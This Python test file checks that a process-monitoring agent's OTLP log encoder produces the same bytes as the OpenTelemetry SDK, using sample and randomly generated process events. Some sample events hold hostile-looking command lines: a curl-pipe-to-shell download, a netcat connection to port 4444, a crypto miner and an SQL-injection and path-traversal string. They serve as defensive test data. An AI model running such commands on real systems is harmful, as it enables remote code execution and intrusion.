"""The agent's direct OTLP encoding decodes to exactly what the OpenTelemetry SDK's encoder produces."""

from __future__ import annotations

import random

import pytest
from opentelemetry._logs import LogRecord, SeverityNumber
from opentelemetry.exporter.otlp.proto.common._log_encoder import encode_logs
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.sdk._logs import ReadableLogRecord
from opentelemetry.sdk.util.instrumentation import InstrumentationScope

from core.event import CONNECTION, LISTEN, ProcessEvent
from core.semconv import event_to_attributes
from otel_agent.emitter import build_resource
from otel_agent.otlp import RequestEncoder, encode_event, encode_log_record

EVENTS = [
    ProcessEvent(executable_name="bash", command_line="bash -c curl http://x | sh",
                 command_args=("bash", "-c", "curl http://x | sh"), executable_path="/usr/bin/bash",
                 parent_name="nginx", pid=4242, parent_pid=1, user_id=0, real_user_id=33, user_name="root",
                 working_directory="/var/www", container_id="a" * 64, timestamp=1_700_000_000.123456,
                 stdin="pipe:81234", stdout="tty", executable_deleted=True),
    ProcessEvent(executable_name="true", command_line="/bin/true \x1b[31m ' OR 1=1 -- \\xff 🙂 ../../x",
                 command_args=("/bin/true", "\x1b[31m", "' OR 1=1 --", "\\xff", "🙂", "../../x"), pid=2**31 - 1,
                 user_id=0, command_args_truncated=True, timestamp=1.5),
    ProcessEvent(executable_name="nc", command_line="nc 203.0.113.9 4444", event_name=CONNECTION, pid=7,
                 transport="tcp", local_address="10.0.0.2", local_port=50000, remote_address="203.0.113.9",
                 remote_port=4444, timestamp=1_700_000_001.0),
    ProcessEvent(executable_name="xmrig", command_line="./xmrig", event_name="process.cpu", pid=8, cpu_percent=199.5,
                 timestamp=1_700_000_002.0),
    ProcessEvent(executable_name="python3", command_line="python3 -m http.server", event_name=LISTEN, pid=9,
                 transport="tcp", local_address="::", local_port=8000, timestamp=1_700_000_003.0),
]


@pytest.mark.parametrize("event", EVENTS, ids=lambda e: e.event_name + ":" + e.executable_name)
def test_encoding_matches_the_sdk_encoder(event):
    resource = build_resource("prod-web")
    time_ns, observed_ns = int(event.timestamp * 1e9), 1_800_000_000_000_000_000
    attributes = event_to_attributes(event)
    ours = ExportLogsServiceRequest.FromString(RequestEncoder(resource.attributes, "procsight.otel_agent", "0.1.0")
                                               .encode([encode_event(event, observed_ns)]))
    sdk_record = LogRecord(timestamp=time_ns, observed_timestamp=observed_ns, body=event.command_line,
                           attributes=attributes, event_name=event.event_name,
                           severity_number=SeverityNumber.INFO, severity_text="INFO")
    sdk = encode_logs([ReadableLogRecord(log_record=sdk_record, resource=resource,
                                         instrumentation_scope=InstrumentationScope("procsight.otel_agent", "0.1.0"))])
    assert ours == sdk
    assert ours.resource_logs[0].scope_logs[0].log_records[0].event_name == event.event_name


def test_many_records_in_one_request_keep_their_order():
    encoder = RequestEncoder({"service.name": "procsight-agent"}, "s", "1")
    records = [encode_log_record(i, i, "process.exec", f"cmd {i}", {"process.pid": i}) for i in range(100)]
    request = ExportLogsServiceRequest.FromString(encoder.encode(records))
    assert [r.body.string_value for r in request.resource_logs[0].scope_logs[0].log_records] == [
        f"cmd {i}" for i in range(100)]


def random_event(rng: random.Random) -> ProcessEvent:
    """An event with each optional field present or absent, values from awkward to plain."""
    words = ["", "sh", "/usr/bin/python3", "\x1b[0m", "🙂 x", "\udcff", "a" * 300, "pipe:4026531", "file:/dev/null",
             "tty", *("x" * n for n in (97, 98, 99, 100, 101, 102, 103, 104, 105, 124, 125, 126, 127, 128, 129))]

    def maybe(value: object, absent: object = None) -> object:
        return value if rng.random() < 0.7 else absent

    network = rng.random() < 0.1
    return ProcessEvent(
        executable_name=rng.choice(words), command_line=rng.choice(words),
        command_args=tuple(rng.choice(words) for _ in range(rng.randrange(4))),
        event_name=rng.choice(["process.exec"] * 8 + [CONNECTION, LISTEN]),
        executable_path=maybe(rng.choice(words), ""), parent_name=maybe(rng.choice(words), ""),
        pid=maybe(rng.randrange(2**31)), parent_pid=maybe(rng.choice([0, 1, 2**22 - 1, 2**31 - 1])),
        user_id=maybe(rng.choice([0, 33, 65534, 2**32 - 2])), real_user_id=maybe(rng.choice([0, 1002, 65534])),
        user_name=maybe(rng.choice(["root", "www-data"]), ""), working_directory=maybe(rng.choice(words), ""),
        container_id=maybe("b" * 64, ""), timestamp=rng.uniform(0, 2e9),
        command_args_truncated=rng.random() < 0.2, executable_deleted=rng.random() < 0.2,
        cpu_percent=rng.uniform(0, 200) if rng.random() < 0.05 else None,
        transport="tcp" if network else "", local_address="10.0.0.1" if network else "",
        local_port=rng.randrange(65536) if network else None,
        remote_port=443 if network and rng.random() < 0.5 else None,
        stdin=maybe(rng.choice(words), ""), stdout=maybe(rng.choice(words), ""))


def test_the_exec_path_writes_the_same_bytes_as_the_generic_path():
    """`encode_event` skips building the attribute dict for execs: it must still write exactly what
    `event_to_attributes` gives, field for field, for any combination of present and absent fields."""
    rng = random.Random(20261129)
    for _ in range(3000):
        event = random_event(rng)
        expected = encode_log_record(int(event.timestamp * 1e9), 42, event.event_name, event.command_line,
                                     event_to_attributes(event))
        assert encode_event(event, 42) == expected, event
